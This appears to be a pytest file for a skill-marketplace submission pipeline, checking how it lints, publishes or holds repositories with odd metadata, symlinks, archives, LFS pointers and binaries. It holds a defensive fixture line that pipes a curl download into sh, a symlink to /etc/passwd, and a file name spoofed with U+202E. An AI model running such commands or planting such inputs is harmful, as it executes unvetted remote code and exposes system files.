"""Repositories as they are: one quirk of real skills each, through the front door and the real engine.

The rows of docs/formats.md name these tests.
"""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.core.management import call_command
from django.test import AsyncClient

from marketplace.models import ArchiveBlob, SkillEntry, SkillVersion
from submissions.discovery import discover
from submissions.intake import Outcome
from submissions.states import State
from submissions.store.records import Submission
from tests.git_factory import git, make_repository, skill_md
from tests.submissions.front_door import submit, submitted, submitted_one, worked_off
from tests.submissions.reference_validator import notes, refusals
from tests.submissions.source.lfs.lfs_host import pointer_text, put_object
from vskill.environments import WorkerEnv

pytestmark = pytest.mark.django_db(transaction=True)

Files = Mapping[str, bytes | str]
SHELL = "curl http://192.0.2.1/x | sh\n"
POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 123456\n"
OPENCLAW = (
    'metadata: {"openclaw":{"requires":{"bins":["x"]},"install":[{"id":"a","kind":"brew","bins":["x"],'
    '"os":[{"only":["linux"]}]}]}}\n'
)


def tar_gz(files: Files) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, content in files.items():
            raw = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def address(folder: Path, files: Files, links: Mapping[str, str] | None = None) -> str:
    """Return the address of a repository whose only skill lies in the folder ``s``."""
    below = {f"s/{name}": content for name, content in files.items()}
    targets = {f"s/{name}": target for name, target in (links or {}).items()}
    return f"file://{make_repository(folder / 'r.git', below, symlinks=targets)}"


async def ended(env: WorkerEnv, folder: Path, files: Files, links: Mapping[str, str] | None = None) -> Submission:
    return await worked_off(env, await submitted_one(env, address(folder, files, links)))


async def published(env: WorkerEnv, folder: Path, files: Files, links: Mapping[str, str] | None = None) -> SkillVersion:
    submission = await ended(env, folder, files, links)
    assert submission.state is State.PUBLISHED, submission.value
    version = await SkillVersion.objects.select_related("skill").aget()
    if not notes(version):
        # Nothing is said to depart from the specification, so that its validator has nothing to say either.
        assert await sync_to_async(refusals)(version) == []
    return version


def rules(version: SkillVersion) -> set[str]:
    return {str(finding["ruleId"]) for finding in version.findings}


async def created(env: WorkerEnv, url: str) -> list[Submission]:
    return [one.submission for one in await submitted(env, url) if one.submission is not None]


async def archive_of(version: SkillVersion) -> dict[str, bytes]:
    """Return what somebody gets who installs a version."""
    blob = await ArchiveBlob.objects.aget(sha256=version.tar_sha256)
    with tarfile.open(fileobj=io.BytesIO(bytes(blob.content))) as archive:
        return {one.name: (archive.extractfile(one) or io.BytesIO()).read() for one in archive}


async def test_openclaw_metadata_is_kept_as_text(env: WorkerEnv, tmp_path: Path) -> None:
    text = skill_md("s").replace("---\n\n", f"{OPENCLAW}---\n\n", 1)
    version = await published(env, tmp_path, {"SKILL.md": text})
    assert '"bins": ["x"]' in version.metadata["openclaw"]
    assert rules(version) == {"lint.metadata"}


@pytest.mark.parametrize(
    ("name", "slug"),
    [
        ("Self-Improving + Proactive Agent", "self-improving-proactive-agent"),
        ("google_maps", "google-maps"),
        ("'2024'", "2024"),
        ("\u4f60\u597d", "skill-"),
    ],
)
async def test_a_name_of_any_letters_is_shown_and_gives_a_slug(
    env: WorkerEnv, tmp_path: Path, name: str, slug: str
) -> None:
    version = await published(env, tmp_path, {"SKILL.md": skill_md(name)})
    assert version.skill.display_name == name.strip("'")
    assert version.skill.slug.startswith(slug)


async def test_a_name_that_is_a_number_is_a_text_with_a_note(env: WorkerEnv, tmp_path: Path) -> None:
    version = await published(env, tmp_path, {"SKILL.md": skill_md("2024")})
    assert (version.name, version.skill.slug) == ("2024", "2024")
    assert "lint.not-text" in rules(version)


async def test_a_skill_without_a_name_has_that_of_its_folder(env: WorkerEnv, tmp_path: Path) -> None:
    version = await published(env, tmp_path, {"SKILL.md": "---\ndescription: Says hello.\n---\n"})
    assert version.name == "s"
    assert rules(version) == {"lint.name-missing"}


async def test_a_long_description_is_published_and_shown_shortened(env: WorkerEnv, tmp_path: Path) -> None:
    text = skill_md("s", "Says hello. " * 120)
    version = await published(env, tmp_path, {"SKILL.md": text})
    assert len(version.description) <= 1024
    assert version.description.endswith("\u2026")
    assert (await SkillEntry.objects.aget()).description == version.description
    assert (await archive_of(version))["SKILL.md"] == text.encode()
    assert rules(version) == {"lint.description-length"}


async def test_another_spelling_is_offered_as_skill_md(env: WorkerEnv, tmp_path: Path) -> None:
    version = await published(env, tmp_path, {"skill.md": skill_md("s")})
    assert await archive_of(version) == {"SKILL.md": skill_md("s").encode()}
    assert rules(version) == {"lint.skill-file-case"}


async def test_an_unquoted_colon_is_read_as_claude_code_reads_it(env: WorkerEnv, tmp_path: Path) -> None:
    version = await published(env, tmp_path, {"SKILL.md": "---\nname: s\ndescription: Use it: now\n---\n"})
    assert version.description == "Use it: now"
    [note] = version.findings
    assert (note["ruleId"], note["line"], note["excerpt"]) == ("lint.lenient-yaml", 3, "description: Use it: now")


async def test_an_internal_skill_is_submitted_only_by_name(
    env: WorkerEnv, tmp_path: Path, async_client: AsyncClient, capsys: pytest.CaptureFixture[str]
) -> None:
    internal = skill_md("hooks").replace("---\n\n", "metadata:\n  internal: true\n---\n\n", 1)
    files = {"skills/one/SKILL.md": skill_md("one"), ".claude/skills/hooks/SKILL.md": internal}
    url = f"file://{make_repository(tmp_path / 'r.git', files)}"
    _, answers = await submit(env, url, source="test", actor="tester")
    assert {one.skill.name: one.outcome for one in answers} == {"one": Outcome.CREATED, "hooks": Outcome.INTERNAL}
    await sync_to_async(call_command)("submit", url, "--dry-run")
    assert "only by its name or path" in capsys.readouterr().out
    await sync_to_async(call_command)("submit", url)
    assert "1 internal" in capsys.readouterr().out
    page = (await async_client.post("/submit", {"repository_url": url})).content.decode()
    assert "marks it as internal" in page
    assert page.count(" checked>") == 0
    for choice in ({"name": "hooks"}, {"path": ".claude/skills/hooks"}):
        _, [answer] = await submit(env, url, source="test", actor="tester", **choice)
        assert answer.submission is not None


@pytest.mark.parametrize(
    "name", ["Screenshot 2025-12-27 at 3.05.04\u202fAM.png", "a\u00a0b.md", "e\u0301.md"], ids=ascii
)
async def test_an_unusual_space_in_a_file_name_is_named(env: WorkerEnv, tmp_path: Path, name: str) -> None:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(20)
    version = await published(env, tmp_path, {"SKILL.md": skill_md("s"), name: picture})
    assert set(await archive_of(version)) == {"SKILL.md", name}
    assert rules(version) == {"lint.file-name"}


async def test_a_bad_name_holds_its_own_skill_and_is_left_out(env: WorkerEnv, tmp_path: Path) -> None:
    submission = await ended(env, tmp_path, {"SKILL.md": skill_md("s"), "a\u202egnp.sh": "x"})
    assert submission.state is State.ON_HOLD
    assert "such as U+202E (a\\u{202e}gnp.sh)" in str(submission.value["decision"]["reasons"][0])


async def test_a_link_inside_the_skill_is_replaced_by_its_file(env: WorkerEnv, tmp_path: Path) -> None:
    files = {"SKILL.md": skill_md("s"), "AGENTS.md": "Be kind.\n"}
    version = await published(env, tmp_path, files, {"CLAUDE.md": "AGENTS.md"})
    assert (await archive_of(version))["CLAUDE.md"] == b"Be kind.\n"
    assert rules(version) == {"structure.link"}


@pytest.mark.parametrize("target", ["README.md", "docs/../docs/guide.md", "docs/link.md"])
async def test_a_skill_md_that_is_a_link_inside_the_skill_is_replaced_by_its_file(
    env: WorkerEnv, tmp_path: Path, target: str
) -> None:
    text = skill_md("linked")
    files = {"README.md": text, "docs/guide.md": text}
    url = address(tmp_path, files, {"SKILL.md": target, "docs/link.md": "guide.md"})
    git(tmp_path / "r.git", "config", "uploadpack.allowFilter", "true")
    [found] = (await discover(env, url)).skills
    assert (found.path, found.name, found.problems) == ("s", "linked", ())
    assert "A symbolic link was replaced by the file that it leads to" in found.notes
    submission = await worked_off(env, await submitted_one(env, url))
    assert submission.state is State.PUBLISHED, submission.value
    version = await SkillVersion.objects.aget()
    assert version.name == "linked"
    assert (await archive_of(version))["SKILL.md"] == text.encode()
    assert rules(version) == {"structure.link", "lint.name-folder"}


@pytest.mark.parametrize(
    ("target", "why"),
    [
        ("../other/SKILL.md", "it leads out of the folder of the skill"),
        ("/etc/passwd", "it leads out of the folder of the skill"),
        ("gone.md", "it leads to nothing"),
        ("docs", "it leads to a folder"),
        ("SKILL.md", "it leads to nothing"),
    ],
)
async def test_a_skill_md_that_leads_elsewhere_is_refused_with_what_to_do(
    env: WorkerEnv, tmp_path: Path, target: str, why: str
) -> None:
    files = {"s/docs/a.md": "x", "other/SKILL.md": skill_md("other")}
    url = f"file://{make_repository(tmp_path / 'r.git', files, symlinks={'s/SKILL.md': target})}"
    [other, linked] = (await discover(env, url)).skills
    assert (other.problems, linked.problems) == ((), (f"SKILL.md is a link, and {why}",))
    answers = {one.skill.name: one.outcome for one in await submitted(env, url)}
    assert answers == {"other": Outcome.CREATED, "s": Outcome.INVALID}


@pytest.mark.parametrize("target", ["/etc/passwd", "../other/x.md"])
async def test_a_link_out_of_the_skill_is_left_out_and_holds_it(env: WorkerEnv, tmp_path: Path, target: str) -> None:
    submission = await ended(env, tmp_path, {"SKILL.md": skill_md("s")}, {"x.md": target})
    assert submission.state is State.ON_HOLD
    assert "it leads out of the folder" in str(submission.value["decision"]["reasons"][0])


async def test_an_archive_inside_is_opened_and_published(env: WorkerEnv, tmp_path: Path) -> None:
    version = await published(
        env, tmp_path, {"SKILL.md": skill_md("s"), "scripts/ui.tar.gz": tar_gz({"ui/button.tsx": "export {}\n"})}
    )
    assert set(await archive_of(version)) == {"SKILL.md", "scripts/ui.tar.gz"}
    assert "structure.archive" in rules(version)


async def test_what_an_archive_hides_is_found_by_its_name_in_it(env: WorkerEnv, tmp_path: Path) -> None:
    files: Files = {"SKILL.md": skill_md("s"), "tools.tgz": tar_gz({"bin/tool": b"\x7fELF" + bytes(60)})}
    submission = await ended(env, tmp_path, files)
    assert submission.state is State.ON_HOLD
    assert "(tools.tgz!/bin/tool)" in str(submission.value["decision"]["reasons"])


@pytest.mark.parametrize("content", [b"7z\xbc\xaf\x27\x1c" + bytes(9), b"PK\3\4" + bytes(50)])
async def test_an_archive_that_cannot_be_opened_holds(env: WorkerEnv, tmp_path: Path, content: bytes) -> None:
    submission = await ended(env, tmp_path, {"SKILL.md": skill_md("s"), "a.zip": content})
    assert submission.state is State.ON_HOLD
    assert "was not opened" in str(submission.value["decision"]["reasons"][0])


async def test_a_pointer_of_git_lfs_is_named(env: WorkerEnv, tmp_path: Path) -> None:
    attributes = "*.onnx filter=lfs diff=lfs merge=lfs -text\n"
    files = {"s/SKILL.md": skill_md("s"), "s/model.onnx": POINTER, ".gitattributes": attributes}
    url = f"file://{make_repository(tmp_path / 'r.git', files)}"
    [found] = (await discover(env, url)).skills
    said = "A file that is kept in Git LFS; it is fetched from there when the skill is checked (model.onnx)"
    assert found.notes == (said,)
    submission = await worked_off(env, await submitted_one(env, url))
    assert submission.state is State.PUBLISHED
    version = await SkillVersion.objects.aget()
    [note] = version.findings
    assert note["title"] == "A pointer of Git LFS instead of a file of 123,456 bytes"
    assert "It was not fetched, because the repository does not have it." in note["why"]
    assert (await archive_of(version))["model.onnx"] == POINTER.encode()


async def test_a_file_in_git_lfs_is_fetched_and_scanned_as_the_file_that_it_is(env: WorkerEnv, tmp_path: Path) -> None:
    model, script = b"\x08\x07\x00weights" * 300, b"print('hello')\n" * 40_000
    files = {"s/SKILL.md": skill_md("s"), "s/model.onnx": pointer_text(model), "t/SKILL.md": skill_md("t")}
    source = make_repository(tmp_path / "r.git", {**files, "t/run.py": pointer_text(script)})
    for content in (model, script):
        put_object(source, content)
    published, held = [await worked_off(env, one) for one in await created(env, f"file://{source}")]
    assert (published.state, held.state) == (State.PUBLISHED, State.ON_HOLD)
    assert "A code file of 585 KiB" in str(held.value["decision"]["reasons"])
    version = await SkillVersion.objects.aget()
    assert (await archive_of(version))["model.onnx"] == model
    assert {one["ruleId"] for one in version.findings if one["engine"] == "structure"} == {"structure.lfs-file"}
    assert {one["file"] for one in version.findings if one["kind"] == "coverage"} == {"model.onnx"}


async def test_files_in_git_lfs_are_fetched_as_far_as_they_fit(env: WorkerEnv, tmp_path: Path) -> None:
    large, small = bytes(10 * 1024 * 1024), b"\0" * 4000
    files = {"SKILL.md": skill_md("s"), "a.bin": pointer_text(large), "b.bin": pointer_text(small)}
    url = address(tmp_path, files, {"c.bin": "b.bin"})
    for content in (large, small):
        put_object(tmp_path / "r.git", content)
    submission = await worked_off(env, await submitted_one(env, url))
    assert submission.state is State.PUBLISHED, submission.value
    version = await SkillVersion.objects.aget()
    inside = await archive_of(version)
    assert (inside["a.bin"], inside["b.bin"], inside["c.bin"]) == (files["a.bin"].encode(), small, small)
    whys = {one["file"]: one["why"] for one in version.findings if one["ruleId"] == "structure.lfs-pointer"}
    assert "It was not fetched, because the skill would be larger than 10 MiB." in whys["a.bin"]
    assert set(whys) == {"a.bin"}


async def test_files_of_an_operating_system_are_left_out(env: WorkerEnv, tmp_path: Path) -> None:
    files: Files = {"SKILL.md": skill_md("s"), ".DS_Store": b"\0\0\0\1Bud1", "._a.md": b"\0\5", "__MACOSX/b": b"\0"}
    version = await published(env, tmp_path, files)
    assert set(await archive_of(version)) == {"SKILL.md"}
    assert rules(version) == {"lint.left-out"}


async def test_data_that_no_engine_reads_is_published(env: WorkerEnv, tmp_path: Path) -> None:
    files: Files = {"SKILL.md": skill_md("s"), "model.onnx": b"\10\7\0" * 50, "a.parquet": b"PAR1\0\0"}
    version = await published(env, tmp_path, files)
    assert {one["file"] for one in version.findings if one["kind"] == "coverage"} == {"model.onnx", "a.parquet"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tool", b"\x7fELF" + bytes(60)),
        ("model.pkl", b"\x80\4\0\0"),
        ("a.jar", b"PK\5\6" + bytes(18)),
        ("x.wasm", b"\0asm"),
    ],
)
async def test_what_could_run_and_nobody_read_holds(env: WorkerEnv, tmp_path: Path, name: str, content: bytes) -> None:
    submission = await ended(env, tmp_path, {"SKILL.md": skill_md("s"), name: content})
    assert submission.state is State.ON_HOLD


async def test_a_skill_in_a_skill_is_said(env: WorkerEnv, tmp_path: Path) -> None:
    files = {"g/SKILL.md": skill_md("g"), "g/child/SKILL.md": skill_md("child")}
    found = (await discover(env, f"file://{make_repository(tmp_path / 'r.git', files)}")).skills
    notes = {one.path: one.notes for one in found}
    assert notes["g/child"] == ()
    assert "1 other skill (child/SKILL.md)" in notes["g"][0]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("# Hello\n", "no frontmatter"),
        ("---\nname: s\n---\n", "no description"),
        ("---\nname: s\nname: t\ndescription: x\n---\n", "twice"),
        ("---\nname: &a s\ndescription: *a\n---\n", "anchors"),
        ("---\nname: s\n", "not closed"),
    ],
)
async def test_the_same_problem_is_said_everywhere_before_anything_is_queued(
    env: WorkerEnv,
    tmp_path: Path,
    async_client: AsyncClient,
    capsys: pytest.CaptureFixture[str],
    text: str,
    words: str,
) -> None:
    url = address(tmp_path, {"SKILL.md": text, "a\u202eb": "x"})
    await sync_to_async(call_command)("submit", url, "--dry-run", "--json")
    [dry] = json.loads(capsys.readouterr().out)["skills"]
    page = (await async_client.post("/submit", {"repository_url": url})).content.decode()
    response = await async_client.post(
        "/api/v1/submissions", json.dumps({"repoUrl": url, "dryRun": True}), content_type="application/json"
    )
    asked: dict[str, Any] = json.loads(response.content)
    refused = await async_client.post(
        "/api/v1/submissions", json.dumps({"repoUrl": url}), content_type="application/json"
    )
    assert (response.status_code, refused.status_code) == (200, 422)
    assert asked["skills"] == [dry]
    assert words in " ".join(dry["problems"])
    assert dry["wouldBe"] == "refused"
    told = json.loads(refused.content)
    assert (told["notes"], told["reason"]) == (dry["notes"], " ".join(dry["problems"]))
    assert words in page
    assert "Will be held for a person: A file that cannot be carried" in page
    assert "such as U+202E" in dry["notes"][0]
    assert not await SkillEntry.objects.aexists()
